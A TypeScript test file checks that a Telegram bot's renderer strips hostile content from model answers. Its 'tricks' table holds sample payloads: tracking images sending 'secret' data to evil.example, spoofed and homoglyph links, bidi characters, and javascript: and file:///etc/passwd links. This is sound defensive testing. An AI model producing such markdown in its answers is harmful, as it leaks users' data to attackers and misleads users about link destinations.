import createMarkdownIt, { type Token } from "markdown-it";
import { describe, expect, test } from "vitest";

import { type Body, bodyOf } from "../../bots/telegram/body.ts";
import { createRenderer } from "../../bots/telegram/render.ts";

const evil = "https://evil.example/steal?data=secret";
const bidi = "\u202E\u2066\u200F\u061C";

/** What a model may be made to say; each is said in several settings. */
const tricks: Readonly<Record<string, string>> = {
  "a tracking image": `![](${evil})`,
  "an image with a harmless name": `![your bank](${evil} "Photo caption")`,
  "an image by reference": `![logo][pic]\n\n[pic]: ${evil}`,
  "an image in a link": `[![photo](${evil})](https://evil.example/click)`,
  "a link in an image": `![a [b](https://good.example/) c](${evil})`,
  "an image that only looks escaped": `\\\\![x](${evil})`,
  "an image of data": "![x](data:image/png;base64,AAAA)",
  "an image right behind an exclamation mark": `Look!![x](${evil})`,
  "a link with words for another address": `[https://bank.example/login](${evil})`,
  "a link that names another host": `[bank.example](${evil})`,
  "a link with a name and password": "[bank](https://bank.example@evil.example/)",
  "an address with a name and password": "https://bank.example:443@evil.example/path",
  "an address of letters that look alike": "<https://\u0430\u0440\u0440le.com/>",
  "a link to letters that look alike": "[apple.com](https://\u0430\u0440\u0440le.com/)",
  "a link whose words end like its address": `[x (https://bank.example/)](${evil})`,
  "a link by reference": `[click][1]\n\n[1]: ${evil} "title"`,
  "a link by its own words": `[click]\n\n[click]: ${evil}`,
  "a footnote that is a definition": `Text[^1]\n\n[^1]: ${evil}`,
  "a person's profile": "[Ann](tg://user?id=777000)",
  "a chat to be joined": "[join](tg://join?invite=abc) tg://resolve?domain=evil",
  "a script": "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](vbscript:x)",
  "a page of data": "[x](data:text/html;base64,AAAA)",
  "a local file": "[x](file:///etc/passwd)",
  "a telephone number": "[call](tel:+1900123456)",
  "HTML of a picture": `<img src="${evil}"/>`,
  "HTML of a link": `<a href="${evil}">https://bank.example</a>`,
  "HTML over lines": `<div>\n<img src='${evil}'>\n</div>`,
  "HTML in letters by number": `&#60;img src="${evil}"&#62;`,
  "HTML in letters by name": `&lt;img src=&quot;${evil}&quot;&gt;`,
  "a button": `<tg-button type="url" url="${evil}">Approve</tg-button>`,
  "a row of buttons": `<tg-button-row>\n<tg-button type="callback_data" data="approve">Yes</tg-button>\n</tg-button-row>`,
  "a collage": `<tg-collage>\n\n![](${evil})\n\n</tg-collage>`,
  "a map": `<tg-map lat="1" long="2" zoom="3"/>`,
  "an emoji that is a picture": "![👍](tg://emoji?id=5368324170671202286)",
  "a time": "![22:45](tg://time?unix=1647531900)",
  "a hidden part": "||https://evil.example/|| <details><summary>a</summary>b</details>",
  "a formula": "$x$ $$y$$\n\n```math\n\\href{https://evil.example}{x}\n```",
  "a text turned around": `[${bidi}elpmaxe.knab](${evil}) ${bidi}gpj.exe`,
  "a text turned around by number": `[&#x202E;elpmaxe.knab](${evil})`,
  "letters that are not seen": `[bank\u200B.exa\u2060mple](${evil}) \u{E0041}\u{E0042}`,
  "a link over lines": `[bank\n.example](${evil})`,
  "a link whose words are white": `[\u3164](${evil}) [ ](${evil}) [&nbsp;](${evil})`,
  "a link with a very long address": `[x](https://evil.example/${"a".repeat(500)})`,
  "a host behind many names": `[x](https://bank.example.login.${"a.".repeat(20)}evil.example/)`,
  "an address with a turned slash": "[x](https:\\\\evil.example\\path)",
  "an address without its scheme": "[bank](//evil.example/x)",
  "mail with a text to be sent": "[write](mailto:a@evil.example?body=secret) <b@evil.example>",
  "code that ends its line": `\`[x](${evil})\` \`\`![y](${evil})\`\``,
  "a fence that closes early": `\`\`\`\`\n\`\`\`\n![x](${evil})\n\`\`\`\``,
  "a table of pictures": `| a |\n|---|\n| ![x](${evil}) |`,
};

const settings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Before **bold ${text.split("\n\n", 1)[0] ?? ""}** after.\n\n${text}`,
  (text) => `- item\n\n${text.replaceAll(/^/gm, "  ")}\n\n> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `# ${text}\n\nand ${text} and again`,
];

const answers = Object.entries(tricks).flatMap(([name, text]) =>
  settings.map((setting, at) => ({ name: `${name}, setting ${at + 1}`, text: setting(text) })),
);

const reader = createMarkdownIt({ html: true });
const renderer = createRenderer({ rich: true });

function flat(tokens: readonly Token[]): readonly Token[] {
  return tokens.flatMap((token) => [token, ...flat(token.children ?? [])]);
}

interface Link {
  readonly words: string;
  readonly target: string;
}

/** The links that a reader of all of Markdown sees in what is sent as such. */
function linksIn(markdown: string): readonly Link[] {
  const tokens = flat(reader.parse(markdown, {}));
  return tokens.flatMap((token, at) => {
    if (token.type !== "link_open") return [];
    const end = tokens.findIndex((other, place) => place > at && other.type === "link_close");
    const words = tokens
      .slice(at, end)
      .map(({ content }) => content)
      .join("");
    return [{ words, target: String(token.attrGet("href")) }];
  });
}

function linksOf(body: Body): readonly Link[] {
  if (body.form === "rich") return linksIn(body.markdown);
  if (body.form !== "text") return [];
  return body.entities.flatMap((entity) => {
    if (entity.type !== "text_link") return [];
    const words = body.text.slice(entity.offset, entity.offset + entity.length);
    return [{ words, target: entity.url }];
  });
}

/** Where a person who reads these words would think to go. */
function isHonest({ words, target }: Link): boolean {
  const { protocol, host, pathname, username } = new URL(target);
  if (protocol === "mailto:") return words.includes(decodeURIComponent(pathname));
  return /^https?:$/.test(protocol) && username === "" && words.includes(host);
}

/** Every form in which an answer may be sent. */
function formsOf(markdown: string): readonly Body[] {
  const parts = renderer.render({ type: "answer", markdown });
  const simpler = parts.flatMap((part) => renderer.simpler(part) ?? []);
  const simplest = simpler.flatMap((part) => renderer.simpler(part) ?? []);
  return [...parts, ...simpler, ...simplest].map(bodyOf).concat(renderer.draft(markdown));
}

const turning = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\u200B\u2060]/;

describe("200 hostile answers", () => {
  test("are that many", () => {
    expect(answers.length).toBeGreaterThanOrEqual(200);
  });

  test.each(answers)("$name", ({ text }) => {
    for (const body of formsOf(text)) {
      expect(linksOf(body).filter((link) => !isHonest(link))).toEqual([]);
      expect(JSON.stringify(body)).not.toMatch(turning);
      expect(Object.keys(body).toSorted()).toEqual(
        body.form === "rich" ? ["form", "markdown"] : ["entities", "form", "text"],
      );
      if (body.form !== "rich") continue;
      const tokens = flat(reader.parse(body.markdown, {}));
      expect(tokens.filter(({ type }) => /image|html/.test(type))).toEqual([]);
      // Telegram's own additions: a formula, a spoiler, a marked text, a footnote. None of them is written by us.
      const outside = body.markdown.replaceAll(/(`+)(?!`)[\s\S]*?[^`]\1(?!`)/g, "");
      expect(outside).not.toMatch(/(?<!\\)(\$|\|\||==|\[\^)/);
    }
  });
});

test("the checks of this file can fail", () => {
  expect(isHonest({ words: "bank.example", target: evil })).toBe(false);
  expect(isHonest({ words: "x (https://a.example/)", target: "https://b@a.example/" })).toBe(false);
  expect(linksIn(`[bank.example](${evil})`)).toEqual([{ words: "bank.example", target: evil }]);
});
